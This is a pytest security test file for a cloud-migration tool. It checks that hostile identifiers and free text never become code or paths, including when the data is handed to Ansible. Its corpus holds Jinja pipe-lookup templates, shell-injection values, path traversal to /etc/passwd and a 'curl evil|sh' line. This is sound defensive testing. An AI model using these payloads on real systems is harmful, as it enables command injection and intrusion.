"""Hostile text never becomes code or a path (issue 12): the one id grammar, checked by validate,
the importers, `plan generate --id` and plan files read back; data handed to Ansible marked
``!unsafe`` (checked with the real ``ansible-playbook``); run directories only inside runs/.

The corpus: Jinja expressions and statements, shell metacharacters, newlines, path traversal,
control and bidi characters, very long text. Every command below would leave a canary file in a
temporary directory if it ever ran; the tests assert that none appears and nothing is written
outside the directories the commands own."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from govcloud.model.ids import ID_PATTERN, id_problem, is_valid_id, safe_id

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "integration"))
from migrate_env import APPROVERS, approve_args, approver_key  # noqa: E402

REPO = Path(__file__).resolve().parents[2]
SAMPLE = REPO / "inventories" / "sample-workload"


def gc(*args: str, cwd: Path | None = None, timeout: float = 180) -> subprocess.CompletedProcess:
    p = subprocess.run([sys.executable, "-m", "govcloud", *args], capture_output=True, text=True,
                       timeout=timeout, cwd=cwd or REPO, env={**os.environ, "GOVCLOUD_LANG": "en"})
    assert "Traceback" not in p.stderr and p.returncode != 70, p.stderr
    return p


def corpus(canary: Path) -> dict[str, str]:
    """Hostile values; each would create a file under ``canary`` if it were ever executed."""
    c = str(canary)
    return {
        "jinja": "{{ lookup('pipe', 'touch " + c + "/jinja') }}",
        "jinja-stmt": "{% set x = lookup('pipe', 'touch " + c + "/stmt') %}x",
        "jinja-raw-escape": "{% endraw %}{{ lookup('pipe', 'touch " + c + "/endraw') }}",
        "subshell": "$(touch " + c + "/subshell)",
        "backticks": "`touch " + c + "/backticks`",
        "semicolon": "x; touch " + c + "/semicolon; #",
        "pipe-amp": "x | touch " + c + "/pipe & touch " + c + "/amp",
        "newline": "x\ntouch " + c + "/newline\n",
        "traversal": "../../../../../tmp/govcloud-traversal",
        "bidi": "abc\u202etxt.exe\u2066\u200b",
        "control": "bell\x07esc\x1b[31mred\x1b[0m",
        "long": "长" * 5000 + "A" * 5000,
    }


HOSTILE_IDS = ["../../../../x", "a/b", "..", ".", "x;curl evil|sh;", "$(touch /tmp/x)", "`id`", "a\nb",
               "a\n", "{{ x }}", "{%x%}", "a b", "abc\u202e", "a\u200bb", "a\x07", "-rf", "x" * 65, "",
               "服务器", "a'b", 'a"b', "a\\b", "a:b", "a@b", "a,b", "a*b", "~root"]


# ---------------------------------------------------------------- the grammar


@pytest.mark.parametrize("value", HOSTILE_IDS)
def test_hostile_ids_break_the_grammar_with_a_reason(value):
    assert not is_valid_id(value)
    assert id_problem(value)


def test_bundled_inventories_and_generated_names_keep_to_the_grammar():
    from govcloud.inventory.loader import load_inventory
    from govcloud.model.entities import SECTIONS
    for root in ("inventories/heyuan", "inventories/sample-workload", "tests/cases/city-three-departments",
                 "tests/cases/county-tight"):
        inv = load_inventory(REPO / root).inventory
        for s in SECTIONS:
            store = inv.section(s.key)
            if isinstance(store, dict) and s.key != "resources":
                assert all(is_valid_id(k) for k in store), (root, s.key)
        assert all(is_valid_id(b.id) for p in inv.policies.values() for b in p.batches)
    for ok in ("T0", "B01", "heyuan-2018", "wjj-app-01", "441600", "a.b_c-d", "x" * 64):
        assert is_valid_id(ok), ok


def test_safe_id_is_deterministic_valid_and_keeps_apart_names_that_slug_alike():
    names = ["web/01", "web 01", "web;01", "WEB-01", "web-01", "市政务服务网", "政务 服务", "a" * 300,
             "{{ lookup('pipe','id') }}", "../../etc/passwd", "web01\n", "x\u202ey"]
    ids = [safe_id(n, prefix="ansible-") for n in names]
    assert all(is_valid_id(i) for i in ids), ids
    assert len(set(ids)) == len(ids), ids
    assert ids == [safe_id(n, prefix="ansible-") for n in names]     # deterministic
    assert safe_id("web-01", prefix="ansible-") == "ansible-web-01"    # already valid: kept as is
    taken = {safe_id("web/01")}
    again = safe_id("web/01", taken=taken)
    assert again not in taken and is_valid_id(again)


def test_schema_documents_the_grammar_on_every_id():
    from govcloud.inventory.schema import inventory_schema
    defs = inventory_schema()["$defs"]
    for name in ("Server", "InformationSystem", "Organization", "MachineRoom", "CloudZone", "CloudPlatform",
                 "DatabaseInstance", "Policy", "Batch", "FreezeWindow", "TakeoverRecord"):
        prop = defs[name]["properties"]["id"]
        assert prop["pattern"] == ID_PATTERN and prop["maxLength"] == 64, name
        assert "ASCII letters" in prop["description"], name
    assert defs["InformationSystem"]["properties"]["move_group"]["pattern"] == ID_PATTERN
    assert defs["DatabaseSpec"]["properties"]["name"]["pattern"] == ID_PATTERN


# ---------------------------------------------------------------- validate


def _sample(tmp_path: Path) -> Path:
    import shutil
    root = tmp_path / "inv"
    shutil.copytree(SAMPLE, root)
    pub = approver_key().with_name("id_ed25519.pub").read_text(encoding="utf-8").strip()
    _edit(root / "policy.yaml", lambda d: d["policies"][0].update(
        approvers=[{"name": n, "ssh_key": pub} for n in APPROVERS]))
    return root


def _edit(path: Path, fn) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    fn(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


@pytest.mark.parametrize("where", ["systems", "servers", "organizations", "machine_rooms", "cloud_zones",
                                   "cloud_platforms", "policies", "batch", "move_group", "db_name"])
@pytest.mark.parametrize("bad", ["../../../../x", "x;curl evil|sh;", "{{ lookup('pipe','id') }}", "a\nb", "ab\u202e"])
def test_validate_refuses_hostile_ids_with_file_line_and_field(tmp_path, where, bad):
    root = _sample(tmp_path)
    files = {"systems": "departments/shujuju.yaml", "servers": "departments/shujuju.yaml",
             "move_group": "departments/shujuju.yaml", "db_name": "departments/shujuju.yaml",
             "organizations": "organizations.yaml", "machine_rooms": "machine-rooms.yaml",
             "cloud_zones": "cloud.yaml", "cloud_platforms": "cloud.yaml", "policies": "policy.yaml",
             "batch": "policy.yaml"}
    field = "id"

    def edit(d):
        nonlocal field
        if where == "batch":
            d["policies"][0].setdefault("batches", []).append({"id": bad, "name": "批次"})
        elif where == "move_group":
            d["systems"][0]["move_group"], field = bad, "move_group"
        elif where == "db_name":
            d["systems"][0]["workload"]["databases"][0]["name"], field = bad, "name"
        else:
            d[where][0]["id"] = bad
    _edit(root / files[where], edit)
    p = gc("inventory", "validate", str(root), "-o", "json")
    assert p.returncode == 1, p.stdout
    probs = [x for x in json.loads(p.stdout)["problems"] if x["code"] == "bad-id"]
    assert probs, p.stdout
    assert probs[0]["file"] == files[where] and probs[0]["line"] and probs[0]["field"] == field
    text = gc("inventory", "validate", str(root), "--lang", "en")
    assert f"{files[where]}:{probs[0]['line']}:" in text.stdout and "[bad-id]" in text.stdout
    assert "\u202e" not in text.stdout      # named by its escaped repr, never printed raw


@pytest.mark.parametrize("path,ok", [("/srv/{{ lookup('pipe','id') }}/$(id);`id`|&", True),
                                     ("/srv/数据 目录", True), ("srv/app", False), ("/srv/../etc", False),
                                     ("/", False), ("/srv/a\nb", False), ("/srv/a\u202eb", False),
                                     ("/srv/./a", False)])
def test_data_paths_must_be_absolute_normal_single_line(tmp_path, path, ok):
    root = _sample(tmp_path)
    _edit(root / "departments/shujuju.yaml", lambda d: d["systems"][0]["workload"].update(data_paths=[path]))
    p = gc("inventory", "validate", str(root), "-o", "json")
    codes = [x["code"] for x in json.loads(p.stdout)["problems"] if x["severity"] == "error"]
    assert (codes == []) is ok and (ok or codes == ["bad-data-path"]), codes


def test_service_names_health_paths_and_record_names_are_checked(tmp_path):
    root = _sample(tmp_path)

    def edit(d):
        wl = d["systems"][0]["workload"]
        wl["services"][0]["name"] = "nginx; touch /tmp/x"
        wl["services"][1]["health_path"] = "api\n"
        wl["cutover_record"]["name"] = "govapp.gov.test\n6.6.6.6 bank.gov.cn"
    _edit(root / "departments/shujuju.yaml", edit)
    p = gc("inventory", "validate", str(root), "-o", "json")
    codes = sorted(x["code"] for x in json.loads(p.stdout)["problems"] if x["severity"] == "error")
    assert codes == ["bad-health-path", "bad-record-name", "bad-service-name"], codes


# ---------------------------------------------------------------- validate → plan → migrate --dry-run --check


def _files(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*")}


def test_free_text_corpus_goes_through_validate_plan_and_dry_run_without_executing(tmp_path):
    canary = tmp_path / "canary"
    canary.mkdir()
    c = corpus(canary)
    root = _sample(tmp_path)

    def edit(d):
        s = d["systems"][0]
        s["name"] = "政务服务平台 " + c["jinja"] + c["subshell"]
        s["description"] = "\n".join(c.values())
        s["developer"], s["notes"] = c["backticks"] + c["semicolon"], c["long"] + c["bidi"] + c["control"]
        wl = s["workload"]
        wl["data_paths"] = ["/srv/govapp", "/srv/" + c["jinja"] + "/" + c["subshell"] + c["backticks"] + c["pipe-amp"],
                            "/srv/" + c["jinja-stmt"], "/srv/" + c["jinja-raw-escape"]]
        wl["services"][0]["health_path"] = "/" + c["jinja"] + "?q=" + c["subshell"]
        d["servers"][0]["notes"] = c["newline"]
    _edit(root / "departments/shujuju.yaml", edit)
    before = _files(tmp_path)
    p = gc("inventory", "validate", str(root), "-o", "json")
    assert p.returncode == 0 and json.loads(p.stdout)["errors"] == 0, p.stdout[-3000:]
    plans = tmp_path / "plans"
    p = gc("plan", "generate", str(root), "--out", str(plans), "--id", "hostile")
    assert p.returncode == 0, p.stderr
    plan = plans / "hostile"
    assert "jinja" in (plan / "plan.yaml").read_text(encoding="utf-8")  # the text travels as data
    assert gc(*approve_args(plan)).returncode == 0
    cloud = tmp_path / "clouds.yaml"
    cloud.write_text("clouds:\n  govcloud-test:\n    auth:\n      auth_url: http://127.0.0.1:9/v3\n"
                     "      username: u\n      password: p\n      project_name: p\n"
                     "      user_domain_name: Default\n      project_domain_name: Default\n", encoding="utf-8")
    p = gc("migrate", "run", str(plan), "--batch", "1", "--dry-run", "--check", "--cloud-config", str(cloud))
    assert p.returncode == 1, (p.stdout, p.stderr)   # the cloud is unreachable: an error, not a crash
    assert sorted(os.listdir(canary)) == []
    new = _files(tmp_path) - before
    assert all(f == "plans" or f.startswith(("plans/hostile", "inv/", "clouds.yaml")) for f in new), sorted(new)
    assert not Path("/tmp/govcloud-traversal").exists()


@pytest.mark.parametrize("field,value", [("plan_id", "../../evil"), ("batches.id", "B01/../../x"),
                                         ("systems.id", "../../../../x"), ("systems.servers.server", "x;id;"),
                                         ("systems.move_group", "{{ lookup('pipe','id') }}"),
                                         ("systems.target_zone", "z\nx")])
def test_a_hostile_id_in_a_plan_file_is_refused_before_anything_is_derived(tmp_path, field, value):
    root = _sample(tmp_path)
    assert gc("plan", "generate", str(root), "--out", str(tmp_path / "plans"), "--id", "p1").returncode == 0
    plan = tmp_path / "plans" / "p1"
    data = json.loads((plan / "plan.yaml").read_text(encoding="utf-8"))
    item = data["batches"][0]["systems"][0]
    if field == "plan_id":
        data["plan_id"] = value
    elif field == "batches.id":
        data["batches"][0]["id"] = value
    elif field == "systems.servers.server":
        item["servers"][0]["server"] = value
    else:
        item[field.split(".")[1]] = value
    (plan / "plan.yaml").write_text(json.dumps(data, ensure_ascii=False, indent=1), encoding="utf-8")
    assert gc(*approve_args(plan)).returncode == 1
    for args in (("plan", "show", str(plan)), ("migrate", "run", str(plan), "--batch", "1", "--dry-run", "--check"),
                 ("migrate", "status", str(plan))):
        p = gc(*args)
        assert p.returncode == 1, (args, p.stdout, p.stderr)
        assert "plan.yaml:" in p.stderr and field in p.stderr and "not a valid id" in p.stderr, p.stderr
    assert not (plan / "runs").exists()


def test_plan_generate_refuses_a_hostile_id_and_writes_nothing(tmp_path):
    for bad in ("../x", "a/b", "$(id)", "a\nb"):
        p = gc("plan", "generate", str(SAMPLE), "--out", str(tmp_path / "plans"), "--id", bad)
        assert p.returncode == 2 and "--id" in p.stderr, p.stderr
    assert not (tmp_path / "plans").exists() and not (tmp_path / "x").exists()


# ---------------------------------------------------------------- Ansible: data, never templates


PROBE = """
- hosts: all
  gather_facts: false
  tasks:
    - debug: {msg: "{{ govcloud_system_id }} {{ govcloud_data_paths }} {{ govcloud_services }} {{ govcloud_cutover_record }}"}
    - debug: {msg: "{{ hostvars[inventory_hostname] | dict2items | selectattr('key', 'match', '^(govcloud_|ansible_ssh)') | list }}"}
    - set_fact: {copied: "{{ govcloud_data_paths }}", svc: "{{ govcloud_services[0].health_path }}"}
    - debug: {msg: "{{ copied | join(' ') }} {{ svc }}"}
    - command: {argv: [echo, "{{ item }}"]}
      loop: "{{ govcloud_data_paths }}"
    - shell: "echo {{ item | quote }} {{ govcloud_services[0].health_path | quote }}"
      loop: "{{ govcloud_data_paths }}"
      register: echoed
    - debug: {msg: "{{ echoed.results | map(attribute='stdout') | list }}"}
"""


def _runner_files(tmp_path: Path, canary: Path):
    """The runner inventory and extravars exactly as the executor builds them for a hostile workload."""
    from govcloud.migrate import runinventory as RI
    from govcloud.migrate.desired import targets_for
    from govcloud.store.planfile import read_plan
    from govcloud.inventory.loader import load_inventory
    c = corpus(canary)
    root = _sample(tmp_path)

    def edit(d):
        wl = d["systems"][0]["workload"]
        wl["data_paths"] = ["/srv/" + c["jinja"], "/srv/" + c["subshell"] + c["backticks"] + c["semicolon"],
                            "/srv/" + c["jinja-stmt"]]
        wl["services"][0]["health_path"] = "/" + c["jinja"] + c["pipe-amp"]
    _edit(root / "departments/shujuju.yaml", edit)
    assert gc("plan", "generate", str(root), "--out", str(tmp_path / "plans"), "--id", "p1").returncode == 0
    plan = read_plan(tmp_path / "plans" / "p1")
    inv = load_inventory(root).inventory
    item = next(i for i in plan.items() if i.system == "govapp")
    t = targets_for(plan, inv, item, admin_cidrs=[])
    known = tmp_path / "known_hosts"
    known.write_text("198.18.1.40 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDtest\n")
    inventory = RI.build(t, source_login=RI.Login("root", str(known)), target_login=RI.Login("root", str(known)),
                         target_addresses={"govapp-web01": "127.0.0.1"},
                         source_known={"govapp-web01": [c["jinja"]]})
    # hostile text in connection-level values too (the operator's known_hosts path, a user name)
    inventory["all"]["children"]["source"]["hosts"]["govapp-web01"]["govcloud_note"] = c["jinja"]
    return inventory, RI.extravars(t), c


def _local(inventory: dict) -> dict:
    for group in inventory["all"]["children"].values():
        for hv in group["hosts"].values():
            hv.update(ansible_connection="local", ansible_python_interpreter=sys.executable)
    return inventory


def test_runner_data_reaches_the_real_ansible_playbook_as_data(tmp_path):
    from govcloud.drivers.ansible import run_playbook, unsafe_yaml, write_inventory
    canary = tmp_path / "canary"
    canary.mkdir()
    inventory, ev, c = _runner_files(tmp_path, canary)
    text = unsafe_yaml(ev)
    assert text.count("!unsafe") >= 8 and "{{" in text
    inv_path = write_inventory(tmp_path / "run" / "inventory.yml", _local(inventory))
    (tmp_path / "probe.yml").write_text(PROBE)
    run = run_playbook(tmp_path / "probe.yml", inv_path, extravars=ev, private_data_dir=tmp_path / "run",
                       timeout=300)
    assert run.ok, (run.status, run.failed_tasks)
    assert sorted(os.listdir(canary)) == []
    shown = json.dumps(run.messages, ensure_ascii=False)
    assert "lookup('pipe', 'touch" in shown and "$(touch" in shown   # printed verbatim, never rendered
    # what ansible-runner recorded: extravars as !unsafe YAML, passed as -e @file
    assert (tmp_path / "run" / "env" / "extravars").read_text(encoding="utf-8").count("!unsafe") >= 8


def test_the_probe_would_catch_templating(tmp_path):
    """Control: the same data written as plain JSON/YAML (what ansible-runner writes by itself)
    does execute on the controller — so the probe above can fail."""
    canary = tmp_path / "canary"
    canary.mkdir()
    inventory, ev, c = _runner_files(tmp_path, canary)
    inv_path = tmp_path / "plain-inventory.yml"
    inv_path.write_text(yaml.safe_dump(_local(inventory), allow_unicode=True))
    (tmp_path / "ev.json").write_text(json.dumps(ev))
    (tmp_path / "probe.yml").write_text(PROBE)
    from govcloud.drivers.ansible import ansible_binary
    ap = ansible_binary("ansible-playbook")
    subprocess.run([str(ap), "-i", str(inv_path), "-e", f"@{tmp_path / 'ev.json'}", str(tmp_path / "probe.yml")],
                   capture_output=True, timeout=300, cwd=tmp_path)
    assert "jinja" in os.listdir(canary)


def test_unsafe_yaml_refuses_hostile_keys_and_round_trips_values():
    from govcloud.drivers.ansible import unsafe_yaml
    for key in ("a b", "x;y", "{{ x }}", "a\nb", ""):
        with pytest.raises(ValueError):
            unsafe_yaml({key: 1})
    data = {"govcloud_x": ["a\nb", "\u202e", "{{ x }}", 1, None, True, {"k": "v"}]}
    text = unsafe_yaml(data)

    class L(yaml.SafeLoader):
        pass
    L.add_constructor("!unsafe", lambda loader, node: loader.construct_scalar(node))
    assert yaml.load(text, Loader=L) == data


# ---------------------------------------------------------------- run directories


def test_run_directories_stay_inside_runs(tmp_path):
    from govcloud.errors import GovcloudError
    from govcloud.migrate.executor import Executor, Options
    plan_dir = tmp_path / "plan"
    plan_dir.mkdir()
    from types import SimpleNamespace
    ex = Executor(plan_dir, plan=SimpleNamespace(plan_id="p1"), inv=None, opts=Options())   # type: ignore[arg-type]
    d = ex.run_dir("govapp", "sync-ab12")
    assert d.is_dir() and d.is_relative_to((plan_dir / "runs").resolve())
    for bad in ("../../../../x", "..", "a/b", "x\n"):
        with pytest.raises(GovcloudError):
            ex.run_dir(bad, "sync-ab12")
    outside = tmp_path / "outside"
    outside.mkdir()
    (ex.runs_dir / "evil").symlink_to(outside)     # planted in a shared plan directory
    with pytest.raises(GovcloudError, match="outside"):
        ex.run_dir("evil", "sync-ab12")
    assert list(outside.iterdir()) == []
    assert not (tmp_path / "x").exists()


# ---------------------------------------------------------------- importers


def _compute(root: Path, records, fmt: str):
    from govcloud.interchange import changeset as cs_mod
    from govcloud.interchange.records import ParseResult
    from govcloud.inventory.loader import load_inventory
    inv = load_inventory(root).inventory

    def read_text(rel: str):
        p = root / rel
        return p.read_text(encoding="utf-8") if p.exists() else None
    return cs_mod.compute(inv, ParseResult(fmt, records), fmt=fmt, now="2026-01-01T00:00:00Z", read_text=read_text)


def test_importers_map_foreign_names_and_hostile_proposed_ids_onto_safe_ids(tmp_path):
    from govcloud.interchange.records import ImportedRecord, Provenance
    root = _sample(tmp_path)
    names = ["web/01", "web;01", "web 01", "{{ lookup('pipe','id') }}", "政务云主机", "x" * 200, "web\n01"]
    recs = []
    for row, n in enumerate(names, 2):
        recs.append(ImportedRecord("servers", n, {"hostname": n, "cores": 2, "ram_gb": 4, "os_distribution": "debian"},
                                   Provenance("hosts.ini", "0" * 64, None, row), (("hostname", n),), {}))
    # a census row that proposes a hostile id keeps its name; the id is derived, with a warning
    recs.append(ImportedRecord("servers", "row-9", {"id": "../../x;id", "hostname": "census-host", "cores": 2,
                                                    "ram_gb": 4, "os_distribution": "debian"},
                               Provenance("census.csv", "0" * 64, None, 9), (), {}))
    cs = _compute(root, recs, "ansible")
    assert not cs.errors, cs.errors
    created = {c.external_id: c.id for c in cs.changes if c.action == "create"}
    assert len(created) == len(names) + 1
    assert all(is_valid_id(i) for i in created.values()), created
    assert len(set(created.values())) == len(created)
    assert created["row-9"] != "../../x;id"
    assert any(p.code == "id-mapped" and p.line == 9 for p in cs.problems), cs.problems
    again = _compute(root, recs, "ansible")
    assert {c.external_id: c.id for c in again.changes if c.action == "create"} == created   # deterministic
    text = cs.files["imported/ansible.yaml"]
    assert "{{ lookup('pipe','id') }}" in text and "政务云主机" in text    # originals kept as hostnames
